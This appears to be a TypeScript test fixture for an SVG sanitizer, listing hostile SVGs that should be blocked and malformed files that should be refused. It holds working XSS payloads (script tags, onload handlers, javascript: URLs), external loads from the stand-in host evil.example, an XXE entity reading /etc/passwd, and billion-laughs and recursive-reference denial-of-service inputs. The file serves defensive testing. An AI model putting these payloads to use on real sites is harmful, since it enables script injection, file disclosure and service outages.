const SVG = 'xmlns="http://www.w3.org/2000/svg"'
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const AWAY = 'https://evil.example'

const drawing = (inside: string, attributes = ''): string => `<svg ${SVG} ${XLINK} ${attributes}>${inside}</svg>`
const styled = (css: string): string => drawing(`<style>${css}</style><rect class="a" width="9" height="9"/>`)
const rect = (attributes: string): string => drawing(`<rect width="9" height="9" ${attributes}/>`)

/** Rule S7: drawings that a browser can read and in which an attacker has hidden something. */
export const HOSTILE_SVGS: readonly string[] = [
  drawing('<script>alert(1)</script>'),
  drawing(`<script href="${AWAY}/x.js"/>`),
  drawing(`<script xlink:href="${AWAY}/x.js"/>`),
  drawing('<script type="text/ecmascript"><![CDATA[alert(1)]]></script>'),
  drawing('<g><script>//<![CDATA[\nalert(1)\n//]]></script></g>'),
  `<svg ${SVG} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>`,
  `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>`,
  drawing('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
  drawing(`<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="${AWAY}/x.js"/>`),
  drawing('<rect width="9" height="9"/>', 'onload="alert(1)"'),
  drawing('<rect width="9" height="9"/>', 'ONLOAD="alert(1)" onLoad="alert(1)"'),
  rect('onclick="alert(1)" onmouseover="alert(1)" onfocus="alert(1)" onbegin="alert(1)"'),
  drawing('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  drawing('<set attributeName="onload" to="alert(1)"/>'),
  drawing('<handler type="application/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events"/>'),
  drawing('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>'),
  drawing(
    '<foreignObject><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  ),
  drawing('<foreignObject><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject>'),
  drawing('<switch><foreignObject requiredExtensions="x"><p>onload=1</p></foreignObject></switch>'),
  drawing('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'),
  drawing(`<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${AWAY}/x.css"/>`),
  drawing(`<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="${AWAY}/x"/>`),
  drawing(`<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${AWAY}"/>`),
  drawing(`<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="${AWAY}/"/><use href="#a"/>`),
  drawing('<a href="javascript:alert(1)"><text>press</text></a>'),
  drawing('<a xlink:href="java&#10;script:alert(1)"><text>press</text></a>'),
  drawing(`<a href="${AWAY}" target="_top"><text>press</text></a>`),
  drawing('<a><animate attributeName="href" values="javascript:alert(1)"/><text>press</text></a>'),
  drawing('<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>press</text></a>'),
  drawing(`<use id="u" href="#u2"/><animate href="#u" attributeName="href" to="${AWAY}/x.svg#a"/>`),
  drawing(`<image href="${AWAY}/x.png" width="9" height="9"/>`),
  drawing(`<image xlink:href="${AWAY}/x.png" width="9" height="9"/>`),
  drawing('<image href="//evil.example/x.png" width="9" height="9"/>'),
  drawing(`<image href="data:image/svg+xml,&lt;svg onload='alert(1)'/&gt;" width="9" height="9"/>`),
  drawing(`<use href="${AWAY}/x.svg#a"/>`),
  drawing('<use xlink:href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>'),
  drawing('<use href="javascript:alert(1)"/>'),
  drawing(`<filter id="f"><feImage href="${AWAY}/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`),
  drawing(`<linearGradient id="g" href="${AWAY}/x.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`),
  drawing(`<pattern id="p" xlink:href="${AWAY}/x.svg#p"/>`),
  drawing(`<text><textPath href="${AWAY}/x.svg#p">round</textPath></text>`),
  drawing(`<path id="m"/><animateMotion dur="1s"><mpath href="${AWAY}/x.svg#m"/></animateMotion>`),
  drawing(`<tref xlink:href="${AWAY}/x.svg#t"/>`),
  drawing(`<font-face><font-face-src><font-face-uri href="${AWAY}/x.woff"/></font-face-src></font-face>`),
  drawing(`<color-profile name="c" xlink:href="${AWAY}/x.icc"/>`),
  drawing(`<cursor xlink:href="${AWAY}/x.cur"/>`),
  drawing(`<audio src="${AWAY}/x.mp3"/><video href="${AWAY}/x.mp4"/><iframe src="${AWAY}"/>`),
  styled(`@import "${AWAY}/x.css";`),
  styled(`@import url(${AWAY}/x.css);.a{fill:red}`),
  styled(`@font-face{font-family:x;src:url(${AWAY}/x.woff)}.a{font-family:x}`),
  styled(`.a{fill:url(${AWAY}/x.svg#p)}`),
  styled(`.a{mask:url('${AWAY}/x.svg#m');filter:url("${AWAY}/x.svg#f")}`),
  styled(`.a{fill:u\\72l(${AWAY}/x.svg#p)}`),
  styled(`.a{cursor:url(${AWAY}/x.cur),auto;fill:image-set("${AWAY}/x.png" 1x)}`),
  styled(`.a{fill:/**/url(/**/${AWAY}/x)}`),
  styled(`.a{fill:red;}/*}.b{*/.a{clip-path:src("${AWAY}/x")}`),
  styled('.a{behavior:url(#default#time2);-moz-binding:url(x.xml#y)}'),
  `<?xml-stylesheet href="${AWAY}/x.css"?>${drawing('<rect/>')}`,
  `<?xml-stylesheet type="text/xsl" href="${AWAY}/x.xsl"?>${drawing('<rect/>')}`,
  rect(`style="fill:url(${AWAY}/x)"`),
  rect(`style="background:url(${AWAY}/x);list-style-image:url(${AWAY}/x)"`),
  rect(`fill="url(${AWAY}/x.svg#p)"`),
  rect(`fill="URL( '${AWAY}/x.svg#p' )" stroke="url(//evil.example/x#p) red"`),
  rect(`filter="url(data:image/svg+xml,%3Csvg%3E#f)"`),
  rect(`clip-path="url(javascript:alert(1))" mask="url(x.svg#m)"`),
  rect(`fill="\\75rl(${AWAY}/x)"`),
  rect(`src="${AWAY}/x" href="${AWAY}/x" xlink:href="javascript:alert(1)" xml:base="${AWAY}/" data-x="${AWAY}"`),
  rect(`xmlns:h="http://www.w3.org/1999/xhtml" h:onload="alert(1)" h:style="fill:url(${AWAY})"`),
  drawing(`<rect id="&quot;/&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>`),
  drawing('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>'),
  drawing('<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>'),
  drawing('<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>'),
  drawing('<text aria-label="&quot; onload=&quot;alert(1)">x</text>'),
  drawing('<!-- --><script>alert(1)</script><!-- -->'),
  `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${AWAY}/svg11.dtd">${drawing('<rect/>')}`,
  `<!DOCTYPE svg SYSTEM "${AWAY}/x.dtd">${drawing('<script>alert(1)</script>')}`,
  drawing('<metadata><x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script></metadata>'),
  drawing('<unknown><script>alert(1)</script><rect onload="alert(1)"/></unknown>'),
  drawing('<svg onload="alert(1)"><g onactivate="alert(1)"/></svg>'),
  drawing('<animate attributeName="fill" values="red;url(https://evil.example/x)" dur="1s"/>'),
  drawing(`<animate attributeName="fill" from="red" to="url(${AWAY}/x)" dur="1s"/>`),
  drawing('<discard/><listener event="load" handler="#h"/>'),
]

const many = (count: number, one: (index: number) => string): string =>
  Array.from({ length: count }, (_, i) => one(i)).join('')
/** A drawing in which each of `levels` levels uses the next one ten times. */
const tenfold = (levels: number, one: (level: number) => string) =>
  drawing(
    many(levels, (level) => `<g id="l${level + 1}">${one(level).repeat(10)}</g>`),
    '',
  )

/** Rule S7: files that are not drawings, or would keep a browser busy forever. */
export const REFUSED_SVGS: Readonly<Record<string, string>> = {
  'an entity that holds a script': `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${drawing('<text>&x;</text>')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`,
  'an entity that spells a script': `<!DOCTYPE svg [<!ENTITY x "&#38;#60;script>">]>${drawing('<text>&x;</text>')}`,
  'an entity of the document type': `<!DOCTYPE svg [<!ENTITY % p "<!ENTITY x 'y'>">%p;]>${drawing('<text>&x;</text>')}`,
  'an entity that stands for itself': `<!DOCTYPE svg [<!ENTITY a "&a;">]>${drawing('<text>&a;</text>')}`,
  'entities tenfold': `<!DOCTYPE svg [<!ENTITY e0 "ha">${many(8, (n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`)}]>${drawing('<text>&e8;</text>')}`,
  'an entity a thousand times': `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(500)}">]>${drawing(`<text>${'&a;'.repeat(1000)}</text>`)}`,
  'too many entities': `<!DOCTYPE svg [${many(201, (n) => `<!ENTITY e${n} "">`)}]>${drawing('')}`,
  'an entity that nobody defined': drawing('<text>&nbsp;</text>'),
  'a tag that is never closed': `<svg ${SVG}><g>`,
  'attributes without quotes': `<svg ${SVG} onload=alert(1)>`,
  'an attribute twice': rect('width="10"'),
  'a prefix that nobody declared': `<svg ${SVG}><use xlink:href="#a"/></svg>`,
  'two drawings': `${drawing('')}${drawing('')}`,
  'HTML behind it': `${drawing('')}<html><script>alert(1)</script></html>`,
  'elements tenfold': tenfold(9, (level) => `<use href="#l${level}"/>`),
  'patterns in patterns': drawing(
    many(9, (l) => `<pattern id="l${l + 1}">${`<rect fill="url(#l${l})"/>`.repeat(10)}</pattern>`) +
      '<rect fill="url(#l9)"/>',
  ),
  'a thing that uses itself': drawing('<g id="a"><use href="#a"/></g>'),
  'two things that use each other': drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  'markers at a million points': drawing(
    `<marker id="m">${'<rect/>'.repeat(900)}</marker><path marker-mid="url(#m)" d="M0 0${'h1'.repeat(2000)}"/>`,
  ),
  'paint for everything within': drawing(
    `<pattern id="p">${'<rect/>'.repeat(900)}</pattern><g fill="url(#p)">${'<rect/>'.repeat(900)}</g>`,
  ),
  'too many elements': drawing('<g/>'.repeat(20_001)),
  'elements too deep': drawing('<g>'.repeat(65) + '</g>'.repeat(65)),
  'a long word for every element': drawing(
    `<style>.a{font-family:${'a'.repeat(1900)}}</style>${'<g class="a"/>'.repeat(5000)}`,
  ),
}
